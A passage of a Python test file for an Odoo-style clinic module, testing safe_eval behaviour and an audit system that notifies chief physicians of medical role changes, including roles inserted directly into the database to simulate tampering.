            safe_eval("x = user.id\ny = x.z", {"user": self.env.user}, mode="exec")
        self.assertEqual(safe_eval("[1 + 1, user]", {"user": 3}), [2, 3])
        with with_stored_code():
            self.assertTrue(safe_eval("env.cr.dbname", {"env": self.env}))


@tagged("post_install", "-at_install")
class TestMedicalGrants(ClinicCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.chief = cls.get_user("medical_chief")
        cls.clerk = cls.get_user("plain")
        cls.medical = cls.env.ref("clinic_base.group_medical")
        cls.grants = cls.env["clinic.medical.grant"]

    def _get_told(self):
        activities = self.env["mail.activity"].search([("user_id", "=", self.chief.id)])
        return [(activity.summary, activity.note) for activity in activities]

    def test_a_granted_role_is_told_and_sealed(self):
        told = self._get_told()
        as_chief = self.clerk.with_user(self.chief).sudo()
        as_chief.write({"group_ids": [Command.link(self.medical.id)]})
        [(summary, note)] = set(self._get_told()) - set(told)
        self.assertEqual(summary, "Medical roles were changed")
        self.assertIn(self.clerk.login, note)
        self.assertFalse(self.grants._get_differences())

    def _forge(self):
        self.env.flush_all()
        self.env.cr.execute(
            "INSERT INTO res_groups_users_rel (gid, uid) VALUES (%s, %s)",
            (self.env.ref("clinic_base.group_medical_chief").id, self.clerk.id),
        )
        self.env.invalidate_all()

    @mute_logger("odoo.addons.clinic_base.models.walls.clinic_medical_grant")
    def test_a_role_that_came_past_the_gate_is_told_to_the_chiefs_once(self):
        told = self._get_told()
        self._forge()
        self.assertEqual(len(self.grants._get_differences()), 2)
        self.grants._cron_check()
        self.grants._cron_check()
        [(summary, note)] = set(self._get_told()) - set(told)
        self.assertIn("past the chief physician", summary)
        self.assertIn(self.clerk.login, note)
        self.assertFalse(
            self.env["mail.activity"].search([("user_id", "=", self.clerk.id)])
        )

    def test_a_later_lawful_change_does_not_seal_it_along(self):
        self._forge()
        doctor = self.get_user("medical")
        doctor.sudo().write({"group_ids": [Command.unlink(self.medical.id)]})
        lines = self.grants._get_differences()
        self.assertTrue(all(self.clerk.login in line for line in lines))
        self.assertEqual(len(lines), 2)

    @mute_logger("odoo.addons.clinic_base.models.walls.clinic_medical_grant")
    def test_a_seal_moved_to_another_row_does_not_hold(self):
        last = self.grants.search([], order="id desc", limit=1)
        forged = self.grants.create([{}])
        forged.sealed = last.sealed
        self.assertEqual(forged._open(), {"given": [], "taken": []})

    def test_nobody_writes_seals(self):
        for role in ("system", "medical_chief", "owner", "clinic_admin"):
            grants = self.grants.with_user(self.get_user(role))
            for operation in ("create", "write", "unlink"):
                self.assertFalse(grants.has_access(operation), (role, operation))
